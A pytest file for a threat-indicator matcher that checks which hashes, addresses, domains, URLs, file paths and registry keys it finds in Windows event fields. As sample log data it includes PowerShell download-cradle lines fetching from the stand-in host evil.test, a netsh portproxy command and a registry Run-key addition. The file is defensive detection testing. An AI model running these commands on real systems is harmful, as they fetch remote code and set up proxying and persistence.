"""Indicators in events: what must be found where, what must not, and that the fast way finds what the slow one does."""

from __future__ import annotations

import json
from ipaddress import ip_address, ip_network

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.detect.indicators.reading import known
from tests.detect.memory import MemoryBatch, event_of
from yadorigi.detect.indicators.fields import TYPES_OF, role_of
from yadorigi.detect.indicators.findings import indicator_finding, level_of, validity_of
from yadorigi.detect.indicators.index import IndicatorIndex
from yadorigi.detect.indicators.matcher import IndicatorMatcher
from yadorigi.detect.indicators.observables import observables_of, overflows
from yadorigi.limits import OBSERVED_PLACES_LIMIT
from yadorigi.packs.indicators import IndicatorSet, load_indicators
from yadorigi.schema.event import EventKind, Value
from yadorigi.schema.finding import KnownIndicator

SYSMON = EventKind("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1)
ODD = EventKind("Some/Log", "Some-Provider", 7)
SHA256, MD5 = "ab" * 32, "cd" * 16
TIME = "2026-03-11T00:00:00.0000000Z"


def found(indicators: IndicatorSet, fields: dict[str, Value], kind: EventKind = ODD) -> list[tuple[str, list[str]]]:
    batch = MemoryBatch(kind, [event_of(kind, {"Other": "nothing"}), event_of(kind, fields)])
    hits = list(IndicatorMatcher(indicators).match(batch))
    assert all(place == 1 for place, _ in hits)
    return [(indicators.table.indicator(hit.row).value, [*hit.fields]) for _, of_event in hits for hit in of_event]


MUST_BE_FOUND: list[tuple[str, str, Value]] = [
    (SHA256, "Hashes", f"SHA1={'EF' * 20},MD5={MD5.upper()},SHA256={SHA256.upper()},IMPHASH={'0' * 32}"),
    (SHA256, "Hash", SHA256.upper()),
    (SHA256, "CommandLine", f"tool.exe --hash={SHA256.upper()}"),
    ("1.2.3.4", "DestinationIp", "1.2.3.4"),
    ("1.2.3.4", "IpAddress", "::ffff:1.2.3.4"),
    ("1.2.3.4", "CommandLine", "netsh interface portproxy add v4tov4 connectaddress=1.2.3.4 connectport=80"),
    ("1.2.3.4", "CommandLine", "ping http://1.2.3.4:8080/x"),
    ("1.2.3.4", "QueryResults", "::ffff:1.2.3.4;"),
    ("1.2.3.4", "Data", ("x", "from 1.2.3.4, again")),
    ("2001:db8::1", "SourceIp", "2001:0DB8:0:0:0:0:0:1"),
    ("2001:db8::1", "CommandLine", "ping [2001:db8::0001]"),
    ("1.2.0.0/16", "DestAddress", "1.2.200.3"),
    ("1.2.0.0/16", "CommandLine", "ping 1.2.200.3"),
    ("2001:db8::/32", "SourceIp", "2001:db8:1::7"),
    ("evil.test", "QueryName", "a.b.EVIL.test"),
    ("evil.test", "QueryName", "evil.test."),
    ("evil.test", "QueryName", "_ldap._tcp.evil.test"),
    ("evil.test", "DestinationHostname", "www.evil.test"),
    ("evil.test", "CommandLine", "powershell iwr https://www.evil.test/a.ps1"),
    ("evil.test", "url", "https://cdn.evil.test/x"),
    ("例え.jp", "QueryName", "xn--r8jz45g.jp"),
    ("例え.jp", "CommandLine", "ping www.例え.jp"),
    ("https://evil.test/a.php", "url", "http://EVIL.test:80/a.php?x=1#y"),
    ("https://evil.test/", "url", "http://evil.test/deep/file.exe"),
    (
        "https://evil.test/a.php",
        "ScriptBlockText",
        "(New-Object Net.WebClient).DownloadString('https://evil.test/a.php')",
    ),
    ("evil.exe", "Image", r"C:\Windows\Temp\EVIL.exe"),
    ("evil.exe", "OriginalFileName", "Evil.EXE"),
    ("evil.exe", "CommandLine", r'"C:\x\evil.exe" -a'),
    ("evil.exe", "TargetFilename", r"C:\x\evil.exe:Zone.Identifier"),
    (r"C:\Windows\Temp\evil.exe", "Image", r"\Device\HarddiskVolume3\Windows\Temp\evil.exe"),
    (r"C:\Windows\Temp\evil.exe", "CommandLine", r"cmd /c C:/Windows/Temp/evil.exe -a"),
    (r"C:\Program Files\My Tool\evil.exe", "CommandLine", r"cmd /c C:\Program Files\My Tool\evil.exe -a -b"),
    (r"%TEMP%\evil.exe", "Image", r"C:\Users\bob\AppData\Local\Temp\evil.exe"),
    (r"%windir%\evil.exe", "Image", r"D:\WINDOWS\evil.exe"),
    (r"HKEY_LOCAL_MACHINE\SOFTWARE\Evil", "TargetObject", r"HKLM\SOFTWARE\Evil\Run"),
    (r"HKCU\Software\Evil", "TargetObject", r"HKU\S-1-5-21-1-2-3-1000\Software\Evil"),
    (r"HKCU\Software\Evil", "ObjectName", r"\REGISTRY\USER\S-1-5-21-1\SOFTWARE\EVIL\x"),
    (
        r"HKLM\SYSTEM\CurrentControlSet\Services\Evil",
        "ObjectName",
        r"\REGISTRY\MACHINE\SYSTEM\ControlSet001\Services\Evil",
    ),
    (r"HKLM\SOFTWARE\Evil", "CommandLine", r"reg add HKLM\Software\Evil\Run /v x"),
    ("Mozilla/5.0 (Evil; 1.0)", "UserAgent", "mozilla/5.0 (evil; 1.0)"),
    ("Mozilla/5.0 (Evil; 1.0)", "ScriptBlockText", "iwr x -UserAgent 'Mozilla/5.0 (Evil; 1.0)'"),
    ("Mozilla/5.0 (Evil; 1.0)", "cs(User-Agent)", "Mozilla/5.0+(Evil;+1.0)"),
]


@pytest.mark.parametrize(("value", "field", "seen"), MUST_BE_FOUND)
def test_must_be_found(value: str, field: str, seen: Value) -> None:
    indicators = known(value)
    (hit,) = found(indicators, {field: seen})
    assert hit[1] == [field]


@pytest.mark.parametrize(
    ("fields", "held"),
    [
        ({"http.hostname": "EVIL.test", "http.url": "/a.php?x=1"}, ["http.hostname", "http.url"]),
        ({"host": "evil.test:80", "uri": "/a.php"}, ["host", "uri"]),
        ({"hostname": "evil.test", "url": "/a.php"}, ["hostname", "url"]),
        ({"cs-host": "evil.test", "cs-uri-path": "/a.php", "cs-uri-query": "-"}, None),
        ({"cs-host": "evil.test", "cs-uri-stem": "/a.php", "cs-uri-query": "x=1"}, None),
        ({"misc": "evil.test/a.php"}, ["misc"]),
        ({"http.hostname": "evil.test", "http.url": "/b.php"}, []),
        ({"http.hostname": "-", "http.url": "/a.php"}, []),
        ({"http.hostname": ("evil.test", "x"), "http.url": 5}, []),
        ({"misc": "evil/a.php"}, []),
    ],
)
def test_urls_in_parts(fields: dict[str, Value], held: list[str] | None) -> None:
    hits = found(known("https://evil.test/a.php"), fields)
    assert [names for _, names in hits] == ([] if held == [] else [sorted(held or fields)])
    assert not found(known("https://evil.test/a.php?x=2"), fields)


@pytest.mark.parametrize(
    ("value", "field", "seen"),
    [
        (SHA256, "CommandLine", SHA256 + "00"),
        ("1.2.3.4", "DestinationIp", "11.2.3.4"),
        ("1.2.3.4", "CommandLine", "version 1.2.3.4.5"),
        ("1.2.3.4", "CommandLine", "version 9.1.2.3.4"),
        ("1.2.0.0/16", "DestinationIp", "1.3.0.1"),
        ("evil.test", "QueryName", "notevil.test"),
        ("evil.test", "QueryName", "evil.test.example"),
        ("evil.test", "SubjectUserName", "evil.test"),
        ("https://evil.test/a.php", "url", "https://evil.test/b.php"),
        ("https://evil.test/a.php", "url", "https://sub.evil.test/a.php"),
        ("evil.exe", "Image", r"C:\evil.exe\other.exe"),
        ("evil.exe", "CommandLine", "not.evil.exe"),
        (r"C:\Windows\Temp\evil.exe", "Image", r"C:\Windows\Temp\sub\evil.exe"),
        (r"%TEMP%\evil.exe", "Image", r"C:\Windows\Temp\evil.exe"),
        (r"HKLM\SOFTWARE\Evil", "TargetObject", r"HKLM\SOFTWARE\EvilNot"),
        (r"HKLM\SOFTWARE\Evil\Run", "TargetObject", r"HKLM\SOFTWARE\Evil"),
        ("evil.test", "CommandLine", "ping evil[.]test"),
    ],
)
def test_must_not_be_found(value: str, field: str, seen: Value) -> None:
    assert found(known(value), {field: seen}) == []


def test_a_registry_value_is_no_key_and_a_detection_has_its_field() -> None:
    indicators = known(
        "type,value\nregistry_value,HKLM\\Software\\X\\Run\ndetection_name,Trojan:Win32/Evil.A\nimphash," + MD5 + "\n"
    )
    assert found(indicators, {"TargetObject": r"HKLM\Software\X\Run"}) == [(r"HKLM\Software\X\Run", ["TargetObject"])]
    assert found(indicators, {"TargetObject": r"HKLM\Software\X\Run\below"}) == []
    assert found(indicators, {"Threat Name": "trojan:win32/evil.a"}) == [("Trojan:Win32/Evil.A", ["Threat Name"])]
    assert found(indicators, {"Hashes": f"MD5={'0' * 32},IMPHASH={MD5}"}) == [(MD5, ["Hashes"])]


def stix(pattern: str) -> IndicatorSet:
    return known(
        json.dumps({"type": "bundle", "objects": [{"type": "indicator", "id": "indicator--1", "pattern": pattern}]})
    )


@pytest.mark.parametrize(
    ("pattern", "fields", "hit"),
    [
        ("[process:command_line LIKE '%portproxy add%']", {"CommandLine": "netsh interface PORTPROXY add x"}, True),
        ("[process:command_line LIKE 'portproxy%']", {"CommandLine": "netsh interface portproxy add x"}, False),
        ("[file:name LIKE 'ev_l%.exe']", {"Image": r"C:\x\evil-2.exe"}, True),
        ("[file:name LIKE 'ev_l%.exe']", {"Image": r"C:\evil.exe\x.txt"}, False),
        ("[file:name MATCHES '^Ev[i1]l']", {"Image": r"C:\x\ev1l.dll"}, True),
        ("[domain-name:value LIKE '%.evil.%']", {"QueryName": "a.evil.test"}, True),
        ("[url:value LIKE 'http://evil.test/%.exe']", {"url": "https://evil.test/a/b.exe"}, True),
        ("[url:value MATCHES 'id=[0-9]{5}$']", {"CommandLine": "curl http://evil.test/?id=12345"}, True),
        ("[directory:path = 'C:\\\\ProgramData\\\\evil']", {"TargetFilename": r"C:\ProgramData\Evil\a.dat"}, True),
        ("[windows-registry-key:key LIKE 'HKLM\\\\%\\\\Evil']", {"TargetObject": r"HKLM\Software\Evil"}, True),
        ("[network-traffic:dst_ref.value = '1.2.3.4' AND network-traffic:dst_port = 443]",
         {"DestinationIp": "1.2.3.4", "DestinationPort": "443"}, True),
        ("[network-traffic:dst_ref.value = '1.2.3.4' AND network-traffic:dst_port = 443]",
         {"DestinationIp": "1.2.3.4", "DestinationPort": 443}, True),
        ("[network-traffic:dst_ref.value = '1.2.3.4' AND network-traffic:dst_port = 443]",
         {"DestinationIp": "1.2.3.4", "DestinationPort": "80"}, False),
        ("[ipv4-addr:value ISSUBSET '1.2.3.0/24' AND domain-name:value = 'a.test']",
         {"QueryName": "a.test", "QueryResults": "1.2.3.77;"}, True),
        ("[ipv4-addr:value ISSUBSET '1.2.3.0/24' AND domain-name:value = 'a.test']", {"QueryName": "a.test"}, False),
    ],
)  # fmt: skip
def test_patterns(pattern: str, fields: dict[str, Value], hit: bool) -> None:
    hits = found(stix(pattern), fields)
    assert bool(hits) == hit
    assert len(hits) <= 1
    if hits:
        assert sorted(hits[0][1]) == sorted(fields)


def test_values_of_one_indicator_are_one_hit() -> None:
    indicators = stix(f"[file:hashes.MD5 = '{MD5}' OR file:hashes.'SHA-256' = '{SHA256}' OR file:name = 'x.exe']")
    ((_, fields),) = found(indicators, {"Hashes": f"MD5={MD5},SHA256={SHA256}", "Image": r"C:\x.exe"})
    assert sorted(fields) == ["Hashes", "Image"]


def test_several_indicators_of_one_value() -> None:
    indicators = known("value,malware\nevil.test,one\nevil.test,two\ntest.evil.test,three\n")
    assert [value for value, _ in found(indicators, {"QueryName": "test.evil.test"})] == [
        "evil.test",
        "evil.test",
        "test.evil.test",
    ]


def test_what_is_remembered_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("yadorigi.detect.indicators.matcher.REMEMBERED_VALUES", 20)
    indicators = known("1.2.3.4")
    matcher = IndicatorMatcher(indicators)
    for number in range(200):
        batch = MemoryBatch(
            ODD, [event_of(ODD, {"IpAddress": f"5.6.7.{number}"}), event_of(ODD, {"IpAddress": "1.2.3.4"})]
        )
        assert [place for place, _ in matcher.match(batch)] == [1]


@pytest.mark.parametrize(
    "text", ["http://" * 100_000, "C:\\" * 200_000, "a." * 300_000, "HKLM\\" * 100_000, ":" * 500_000, "://a" * 200_000]
)
def test_hostile_texts_take_no_long_time(text: str) -> None:
    indicators = known("C:\\evil.exe\nhttp://evil.test/x\nevil.test\nHKLM\\Software\\Evil\n2001:db8::1\n1.2.3.0/24")
    matcher = IndicatorMatcher(indicators)
    batch = MemoryBatch(ODD, [event_of(ODD, {"ScriptBlockText": text + " evil.test"})])
    list(matcher.match(batch))
    if text.count("\\") > OBSERVED_PLACES_LIMIT or "://" in text:
        assert overflows(text)
        assert matcher.cut == 1


# --------------------------------------------------------------------------------------------------------- properties


WORDS = (
    "evil.test", "a.evil.test", "1.2.3.4", "1.2.3.77", "9.9.9.9", SHA256, MD5, "x.exe", r"C:\Users\bob\x.exe", "test",
    r"HKLM\Software\X", "http://evil.test/a", "https://a.evil.test/b?c", "2001:db8::5", "plain", "-", "",
)  # fmt: skip
LISTED = "\n".join([
    "evil.test", "1.2.3.0/24", "1.2.3.4", SHA256, MD5, "x.exe", r"C:\Users\bob\x.exe", r"%USERPROFILE%\x.exe",
    r"HKLM\Software\X", "http://evil.test/a", "2001:db8::/32",
])  # fmt: skip
FIELDS = ("CommandLine", "QueryName", "DestinationIp", "Image", "TargetObject", "Hashes", "url", "Odd", "ObjectName")


@given(
    st.lists(
        st.dictionaries(
            st.sampled_from(FIELDS), st.lists(st.sampled_from(WORDS), max_size=4).map(" ".join), max_size=4
        ),
        min_size=1,
        max_size=6,
    )
)
def test_the_matcher_finds_what_looking_at_each_value_finds(events: list[dict[str, Value]]) -> None:
    indicators = known(LISTED)
    table = indicators.table
    expected: dict[int, set[tuple[str, str]]] = {}
    for place, fields in enumerate(events):
        for name, value in fields.items():
            forms = observables_of(name, value)
            for row in table.indicators():
                held = row.normal in forms.whole or (
                    row.type in ("domain", "registry_key") and row.normal in forms.above
                )
                if row.type == "cidr":
                    held = any(_inside(form, row.normal) for form in forms.whole)
                if held and row.type in TYPES_OF[role_of(name)]:
                    expected.setdefault(place, set()).add((row.normal, name))
    batch = MemoryBatch(ODD, [event_of(ODD, fields) for fields in events])
    got = {
        place: {(table.forms[hit.row], name) for hit in hits for name in hit.fields}
        for place, hits in IndicatorMatcher(indicators).match(batch)
    }
    assert got == expected


def _inside(form: str, network: str) -> bool:
    try:
        return ip_address(form) in ip_network(network)
    except ValueError:
        return False


@given(
    st.lists(st.tuples(st.integers(0, 2**32 - 1), st.integers(8, 31)), min_size=1, max_size=8),
    st.integers(0, 2**32 - 1),
)
def test_networks_are_those_of_ipaddress(networks: list[tuple[int, int]], number: int) -> None:
    texts = {str(ip_network((base, length), strict=False)) for base, length in networks}
    indicators = known("\n".join(sorted(texts)))
    address = ip_address(number)
    rows = IndicatorIndex(indicators.table).rows_in("addresses", str(address))
    assert {indicators.table.forms[row] for row in rows} == {text for text in texts if address in ip_network(text)}


# ----------------------------------------------------------------------------------------------------------- findings


def test_the_finding() -> None:
    indicators = known(
        "type,value,title,description,origin,producer,valid_from,valid_until,confidence,tlp,reference,techniques\n"
        f"sha256,{SHA256},Some tool,words,report,CERT,2026-01-01,2026-06-01,90,green,https://example.test/r,T1090\n"
    )
    event = event_of(SYSMON, {"Hashes": f"SHA256={SHA256.upper()}", "User": r"D\u"})
    ((_, hits),) = IndicatorMatcher(indicators).match(MemoryBatch(SYSMON, [event]))
    finding = indicator_finding(indicators, hits[0], event, TIME, "site")
    assert (finding.title, finding.level, finding.rule_author) == ("Known SHA-256 of Some tool", "high", "CERT")
    assert (finding.rule_path, finding.references, finding.techniques) == (
        "given",
        ("https://example.test/r",),
        ("T1090",),
    )
    assert finding.matched == {"Hashes": f"SHA256={SHA256.upper()}"}
    told = finding.indicator
    assert isinstance(told, KnownIndicator)
    assert (told.value, told.tlp, told.validity, told.confidence) == (SHA256, "green", "within", 90)
    assert finding.rule_id == told.id


@pytest.mark.parametrize(
    ("kind", "confidence", "time", "validity", "level"),
    [
        ("domain", "90", "2026-03-01", "within", "high"),
        ("domain", "90", "2025-03-01", "before", "high"),
        ("domain", "90", "2027-03-01", "after", "medium"),
        ("domain", "", "2026-03-01", "within", "medium"),
        ("domain", "50", "2026-03-01", "within", "medium"),
        ("domain", "39", "2026-03-01", "within", "low"),
        ("domain", "0", "2027-03-01", "after", "informational"),
        ("sha256", "90", "2027-03-01", "after", "high"),
        ("file_name", "90", "2026-03-01", "within", "medium"),
    ],
)
def test_levels(kind: str, confidence: str, time: str, validity: str, level: str) -> None:
    value = {"domain": "evil.test", "sha256": SHA256, "file_name": "x.exe"}[kind]
    indicators = known(
        f"type,value,valid_from,valid_until,confidence\n{kind},{value},2026-01-01,2026-12-31,{confidence}\n"
    )
    (one,) = indicators.table.indicators()
    assert validity_of(one, f"{time}T00:00:00.0000000Z") == validity
    assert level_of(one, validity) == level


def test_the_pack_that_ships_finds_its_hashes() -> None:
    indicators = load_indicators(["builtin"])
    value = "baeffeb5fdef2f42a752c65c2d2a52e84fb57efc906d981f89dd518c314e231c"
    assert [hit for hit, _ in found(indicators, {"Hashes": f"SHA256={value.upper()}"}, SYSMON)] == [value]
